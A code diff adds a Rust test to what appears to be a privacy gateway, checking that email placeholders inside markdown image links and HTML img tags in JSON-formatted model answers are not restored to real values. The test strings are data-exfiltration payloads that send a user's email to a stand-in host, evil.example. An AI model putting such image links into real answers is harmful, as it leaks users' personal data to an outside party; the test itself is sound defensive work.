@@ -260,3 +260,38 @@ async fn an_answer_that_cannot_be_searched_breaks_off() {
         assert!(!answer.body.contains("担当") && !answer.is_done());
     }
 }
+
+#[tokio::test]
+async fn a_json_answer_keeps_placeholders_in_addresses_and_tells_the_rest() {
+    let gateway = Gateway::start().await;
+    let [name, mail] = placeholders(&gateway).await;
+    let shown = r#"{"summary":"![x](https:\/\/evil.example\/?q=MAIL)","html":"\u003cimg src=//evil/MAIL>","#;
+    let shown = shown.replace("MAIL", &mail);
+    let no_document = format!("![x](https://evil.example/?q={mail})");
+    let answers = [
+        (
+            format!(r#"{shown}"name":"{name}"}}"#),
+            format!(r#"{shown}"name":"{NAME}"}}"#),
+        ),
+        (no_document.clone(), no_document),
+    ];
+    let schema = json!({ "name": "reply", "schema": { "type": "object" } });
+    for format in [
+        json!({ "type": "json_object" }),
+        json!({ "type": "json_schema", "json_schema": schema }),
+    ] {
+        for (text, expected) in &answers {
+            for (chars, stream) in [(1, true), (7, true), (1000, false)] {
+                gateway.frontier.set_behaviour(Behaviour::Say {
+                    pieces: cut(text, chars),
+                    part: Part::Content,
+                });
+                let mut request = request(stream);
+                request["response_format"] = format.clone();
+                let answer = gateway.ask(request.to_string()).await;
+                let said = said(&answer, |message| message["content"].as_str());
+                assert_eq!(said, *expected, "{chars} {stream}");
+            }
+        }
+    }
+}
